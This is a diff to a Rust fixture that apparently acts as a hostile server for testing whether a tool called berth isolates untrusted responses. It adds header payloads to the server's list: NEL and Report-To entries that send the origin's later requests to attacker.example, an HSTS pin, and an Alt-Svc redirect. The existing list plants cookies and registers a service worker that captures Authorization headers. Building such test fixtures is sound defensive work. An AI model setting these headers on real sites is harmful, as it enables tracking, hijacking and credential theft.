@@ -5,7 +5,9 @@
 //!   any token it finds, and register `/sw.js` as a service worker over the
 //!   whole origin; it writes each outcome into its `#results` element. The
 //!   response also tries to set a cookie, allow a worker scope of `/`,
-//!   clear the origin's data and lift its own sandbox.
+//!   clear the origin's data, send the origin's later URLs to a report
+//!   endpoint (`NEL`, `Report-To`), pin HSTS and an alternative service,
+//!   and lift its own sandbox.
 //! - `GET /sw.js` → a service worker that would capture `Authorization`
 //!   headers, allowed scope `/`.
 //!
@@ -26,11 +28,19 @@ const PAGE: &str = include_str!("page.html");
 const WORKER: &str = include_str!("sw.js");
 
 /// Headers every answer tries to set on berth's origin.
-const GRABS: [(&str, &str); 6] = [
+const GRABS: [(&str, &str); 10] = [
     ("set-cookie", "berth_stolen=1; Path=/"),
     ("set-cookie2", "berth_stolen2=1; Path=/"),
     ("service-worker-allowed", "/"),
     ("clear-site-data", "\"storage\""),
+    // Reports of every later request to the origin, sent to the attacker.
+    ("nel", r#"{"report_to":"grab","max_age":31536000,"success_fraction":1.0}"#),
+    (
+        "report-to",
+        r#"{"group":"grab","max_age":31536000,"endpoints":[{"url":"https://attacker.example/r"}]}"#,
+    ),
+    ("strict-transport-security", "max-age=31536000; includeSubDomains"),
+    ("alt-svc", "h3=\"attacker.example:443\"; ma=31536000"),
     ("content-security-policy", "sandbox allow-same-origin allow-scripts"),
     ("x-content-type-options", "none"),
 ];
